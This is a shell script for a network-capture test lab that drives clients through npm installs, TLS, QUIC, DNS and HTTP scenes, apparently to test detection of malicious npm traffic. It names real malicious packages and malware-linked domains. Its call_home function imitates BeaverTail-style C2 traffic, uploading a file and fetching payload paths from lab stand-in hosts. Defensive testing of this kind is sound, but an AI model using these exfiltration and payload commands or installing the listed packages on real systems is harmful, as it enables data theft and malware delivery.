# scenes.sh: what the clients do in each capture: scene_NAME, in the order of SCENES. Sourced. A capture of DERIVED is
# another one, rewritten by rewrite.py.
HTTP_REGISTRY=http://npm.corp.example/ HTTPS_REGISTRY=https://npm.corp.example/ PROXY_NAME=http://proxy.corp.example:3128
TREE='@corp/app-kit tiny-router'
BAD='react-plaid-sdk@2.0.15 sumsub-node-websdk'
LISTED=ip-check-server.vercel.app

SCENES='office npm10 npm11 yarn berry pnpm npm-proxy npm-connect tls12 tls13 tls-records post-quantum quic dns http c2-http
http2 loss'
DERIVED='wrap reorder capture-loss'
derive_wrap() { echo --wrap 3000 c2-http npm11; }
derive_reorder() { echo --reorder 2 npm10; }
derive_capture-loss() { echo --lose 7 pnpm; }

web() { in_client 15 curl -sS --cacert "$work/tls/ca.pem" "$@" > /dev/null; }
say() { in_client 5 python3 "$here/say.py" "$@" > /dev/null; }      # say ADDRESS PORT TEXT: as it stands, printf escapes
node_get() {    # node_get HOST PATH TLS_VERSION
    in_client 15 env NODE_EXTRA_CA_CERTS="$work/tls/ca.pem" node -e '
        const [host, path, version] = process.argv.slice(1);
        require("https").get({ host, path, localAddress: "10.20.0.15", minVersion: version, maxVersion: version, agent: false },
            (answer) => answer.resume());' "$@"
}

call_home() { # what the loader and BeaverTail do after the installation, towards servers of the lab
    node_get $LISTED /api/ip-check/208 TLSv1.3
    web --interface 10.20.0.15 "http://$C2_LISTED:1224/client/9/208"
    web --interface 10.20.0.15 -F ts=1750800000 -F type=9 -F "multi_file=@$work/web/www/index.html" "http://$C2_LISTED:1224/uploads"
    web --interface 10.20.0.15 "http://$C2_BARE:1244/pdown"
}

scene_office() {
    web --interface 10.20.0.31 http://www.example/ http://www.example/a.html
    web --interface 10.20.0.31 --tlsv1.3 https://docs.example.com/ https://docs.example.com/b.html
    web --interface 10.20.0.22 --tls-max 1.2 https://mail.example/
    web --interface 2001:db8:20::31 -6 https://www.example/c.html
    ADDRESS=10.20.0.31 install npm10 $HTTP_REGISTRY $TREE
    ADDRESS=10.20.0.15 install npm11 $HTTP_REGISTRY $TREE $BAD
    call_home
    ADDRESS=10.20.0.22 install pnpm $HTTP_REGISTRY tiny-router vite-plugin-tools
    in_client 5 dig +short @10.20.0.1 -b 10.20.0.22 log-server-lovat.vercel.app > /dev/null
    web --interface 10.20.0.22 --tls-max 1.2 https://log-server-lovat.vercel.app/api/ipcheck/703
    web --interface 10.20.0.31 --tlsv1.3 https://www.example/
}

scene_npm10() { install npm10 $HTTP_REGISTRY $TREE $BAD; }
scene_npm11() { install npm11 $HTTP_REGISTRY $TREE $BAD; }
scene_yarn()  { install yarn $HTTP_REGISTRY $TREE $BAD; }
scene_berry() { install berry $HTTP_REGISTRY $TREE $BAD; }
scene_pnpm()  { install pnpm $HTTP_REGISTRY $TREE $BAD; }

scene_npm-proxy() { # requests in absolute form
    PROXY_URL=$PROXY_NAME install npm11 $HTTP_REGISTRY tiny-router node-loggers
    web --proxy $PROXY_NAME http://www.example/a.html
}

scene_npm-connect() {   # tunnels: TLS inside, then plain HTTP inside
    PROXY_URL=$PROXY_NAME install npm11 $HTTPS_REGISTRY tiny-router node-loggers
    web --proxy $PROXY_NAME https://$LISTED/api/
    web --proxy $PROXY_NAME -p -A 'npm/11.4.2 node/v22.16.0 linux x64 workspaces/false' \
        http://npm.corp.example/tiny-words http://npm.corp.example/react-plaid-sdk/-/react-plaid-sdk-2.0.15.tgz
}

scene_tls12() {
    web --tls-max 1.2 https://www.example/ https://$LISTED/api/
    node_get docs.example.com /a.html TLSv1.2
    node_get $LISTED /api/ip-check/208 TLSv1.2
}

scene_tls13() {
    web --tlsv1.3 https://www.example/ https://$LISTED/api/
    node_get docs.example.com /a.html TLSv1.3
    node_get $LISTED /api/ip-check/208 TLSv1.3
}

scene_tls-records() {   # the hello of a real client in several records: the server takes it, and so must we
    in_client 20 python3 "$here/records.py" $GOOD 443 www.example 100 together
    in_client 20 python3 "$here/records.py" $EVIL_WEB 443 $LISTED 60 together
    in_client 20 python3 "$here/records.py" $EVIL_WEB 443 log-server-lovat.vercel.app 32 apart
}

browser() {
    local dir; dir=$(mktemp -d "$work/install.XXXXXX")
    in_client 25 env HOME="$dir" chromium --headless --no-sandbox --disable-gpu --disable-background-networking --no-first-run \
        --disable-component-update --disable-sync --disable-default-apps --disable-dev-shm-usage --ignore-certificate-errors --host-resolver-rules="MAP *.google.com ~NOTFOUND, MAP *.googleapis.com ~NOTFOUND" \
        --user-data-dir="$dir/data" --dump-dom "$@" > "$work/browser.log" 2>&1
}

scene_post-quantum() {  # X25519MLKEM768: the hello takes two segments
    browser https://post-quantum.example/
    browser https://$LISTED/api/
    grep -q '"ok":true' "$work/browser.log"
}

scene_quic() {  # a browser's Initials, whose hello takes two packets; nothing answers
    ip netns exec "$S" python3 "$here/deaf.py" $EVIL_WEB 443 & disown
    ip netns exec "$S" python3 "$here/deaf.py" $GOOD 443 & disown
    browser --enable-quic --origin-to-force-quic-on=post-quantum.example:443 --timeout=3000 https://post-quantum.example/ || true
    browser --enable-quic --origin-to-force-quic-on=$LISTED:443 --timeout=3000 https://$LISTED/api/ || true
}

scene_dns() {
    local q="dig @10.20.0.1 +tries=1 +time=3"
    in_client 20 sh -c "exec > /dev/null; $q www.example; $q AAAA www.example; $q nosuch.example; $q +noedns TXT long.example
        $q $LISTED; $q IP-Check-Server.VERCEL.app; $q deeper.$LISTED; $q fashdefi.store; $q deeper.fashdefi.store; $q notip-check-server.vercel.app
        $q +tcp log-server-lovat.vercel.app; $q +tcp +keepopen www.example www.example MX
        dig @2001:db8:20::1 +tries=1 AAAA $LISTED"
}

scene_http() {
    local to="$GOOD 80" get='GET /a.html HTTP/1.1\r\nHost: www.example\r\n'
    say $to "$get\r\nGET /b.html HTTP/1.1\r\nHost: www.example\r\n\r\n${get}Connection: close\r\n\r\n"
    say $to 'GET /c.html HTTP/1.1\nHost: lf-only.example\nConnection: close\n\n'
    web -H 'Expect: 100-continue' --data-binary "@$work/web/www/index.html" http://www.example/sink
    web -T - http://www.example/sink < "$work/web/www/a.html"
    web http://www.example/chunked/a.html
    web --compressed http://www.example/zip/b.html
    web -I http://www.example/a.html
    web http://www.example/missing
    web -0 http://www.example/a.html
    web -r 10-99 http://www.example/a.html
    say $to 'GET /api/ HTTP/1.1\r\nhOsT:\tip-check-server.vercel.app:80\r\nConnection: close\r\n\r\n'
}

scene_c2-http() {
    call_home
    web "http://$C2_BARE:1244/payload/9/208" "http://$C2_BARE:1244/brow/9/208"
    web http://www.example/uploads http://www.example:80/pdown     # the same paths on a named host are nobody's business
    web -H "Host: $C2_BARE:8080" "http://$C2_BARE:1244/pdown"
}

scene_http2() {
    web --http2-prior-knowledge http://www.example:8080/a.html
    web --http2-prior-knowledge --connect-to ::$GOOD:8080 http://$LISTED/a.html
    web --http2-prior-knowledge --connect-to ::$GOOD:8080 -A npm/11.4.2 http://npm.corp.example/node-loggers
    web --http2 http://www.example/a.html       # an upgrade that the server declines
}

scene_loss() {  # one frame in 15 is lost on the bridge, in both directions, after the capture and before it
    in_middle nft 'table bridge loss { chain wire { type filter hook forward priority 0;
        ip protocol tcp numgen random mod 15 0 drop; }; }'
    install npm11 $HTTP_REGISTRY $TREE $BAD
    web --retry 3 --max-time 10 https://$LISTED/api/
    in_middle nft delete table bridge loss
}
